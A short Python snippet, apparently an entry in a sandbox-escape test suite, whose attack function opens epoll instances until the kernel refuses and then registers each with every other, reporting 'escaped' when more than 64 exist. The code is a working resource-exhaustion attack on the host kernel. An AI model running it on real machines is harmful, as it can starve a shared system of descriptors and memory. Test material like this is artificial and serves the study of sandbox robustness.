# Attempts: make the kernel remember what waits for what: polls of polls.

def attack(world):
    import os, select
    polls, done = [], 0
    try:
        while True:
            polls.append(select.epoll())
    except OSError:
        pass
    for one in polls:
        for other in polls:
            try:
                one.register(other.fileno(), 1)
                done += 1
            except OSError:
                pass
    if len(polls) > 64:
        return "escaped", done
    return 0
